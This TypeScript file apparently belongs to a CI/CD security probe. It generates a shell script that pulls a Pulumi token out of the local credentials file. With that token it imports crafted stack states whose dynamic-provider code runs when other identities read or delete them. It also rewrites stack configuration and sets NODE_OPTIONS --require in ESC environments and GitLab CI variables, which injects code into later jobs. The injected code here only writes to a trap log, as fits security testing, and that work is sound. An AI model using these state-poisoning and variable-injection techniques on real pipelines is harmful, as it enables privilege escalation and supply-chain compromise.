import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Target } from "./target";

/**
 * Tries to change data that stronger identities read, with the credentials of the job: the states and the linked
 * configuration of the flow's stacks, its ESC environments, and the project's CI/CD variables. The status of each
 * response goes to the log of attempts.
 */
export function cloudFunctions({ places, stacks, ownStacks, escEnvironments }: Target): string {
  const { attemptsFile, traps } = places;
  return `
attempt() {
  line "$1" "$2" > /dev/null
  status="$(curl -q -s -o /dev/null -w '%{http_code}' -X "$3" -H "$5" -H 'content-type: application/json' --data-binary @- "$4")"
  echo "$1|$2|$CI_JOB_NAME|$status" >> '${attemptsFile}'
}
fill_in() { sed "s/LEFT_BY/$CI_JOB_NAME/g" "${traps}/$1"; }
leave_in_cloud() {
  token="$(grep -o 'pul-[A-Za-z0-9]*' "\${PULUMI_CREDENTIALS_PATH:-$HOME/.pulumi}/credentials.json" 2> /dev/null | head -n 1)"
  as_job="authorization: token $token"
  api="$PULUMI_BACKEND_URL/api"
${[...stacks, ...ownStacks]
  .map((stack, index) => {
    return `  fill_in state-${index}.json | attempt state '${stack}' POST "$api/stacks/${stack}/import" "$as_job"`;
  })
  .join("\n")}
${stacks
  .map((stack) => {
    return `  echo '{"environment":"left/left"}' | attempt 'stack configuration' '${stack}' PUT "$api/stacks/${stack}/config" "$as_job"`;
  })
  .join("\n")}
  echo '{"project":"left","name":"left"}' | attempt 'ESC environment' left/left POST "$api/esc/environments/${stacks[0]?.split("/")[0] ?? ""}" "$as_job"
${escEnvironments
  .map(
    (name) => `
  printf 'values:\\n  environmentVariables:\\n    NODE_OPTIONS: --require=%s\\n' "$(node_file 'ESC environment' NODE_OPTIONS)" |
    attempt 'ESC environment' '${name}' PATCH "$api/esc/environments/${name}" "$as_job"`,
  )
  .join("\n")}
  printf '{"key":"NODE_OPTIONS","value":"--require=%s"}' "$(node_file environment variables)" |
    attempt environment variables POST "$CI_API_V4_URL/projects/$CI_PROJECT_ID/variables" "JOB-TOKEN: $CI_JOB_TOKEN"
}
`;
}

export const leaveInCloud = "leave_in_cloud";

/** Writes the states that the script imports: each with a resource of a dynamic provider, whose code is in the state. */
export function writeStates({ places: { traps, trapLog }, stacks, ownStacks }: Target): void {
  for (const [index, stack] of [...stacks, ...ownStacks].entries()) {
    writeFileSync(join(traps, `state-${index}.json`), JSON.stringify(stateOf(stack, trapLog)));
  }
}

function stateOf(path: string, trapLog: string): object {
  const [, project = "", stack = ""] = path.split("/");
  const urn = (type: string, name: string): string => `urn:pulumi:${stack}::${project}::${type}::${name}`;
  const root = urn("pulumi:pulumi:Stack", `${project}-${stack}`);
  const provider = urn("pulumi:providers:pulumi-nodejs", "default");
  const id = "7f1a6c9e-0000-4000-8000-000000000000";
  const addLine = `require("node:fs").appendFileSync("${trapLog}", "state|provider|LEFT_BY|" + process.env.CI_JOB_NAME + "\\n")`;
  const code = `const logTrap = () => ${addLine}; exports.handler = () => ({ async read(id, props) { logTrap(); return { id, props }; }, async delete() { logTrap(); } });`;
  const properties = { __provider: code };
  return {
    version: 3,
    deployment: {
      manifest: { time: "2026-01-01T00:00:00Z", magic: "", version: "" },
      resources: [
        { urn: root, custom: false, type: "pulumi:pulumi:Stack" },
        { urn: provider, custom: true, id, type: "pulumi:providers:pulumi-nodejs" },
        {
          urn: urn("pulumi-nodejs:dynamic:Resource", "left"),
          custom: true,
          id: "left",
          type: "pulumi-nodejs:dynamic:Resource",
          inputs: properties,
          outputs: properties,
          parent: root,
          provider: `${provider}::${id}`,
        },
      ],
    },
  };
}
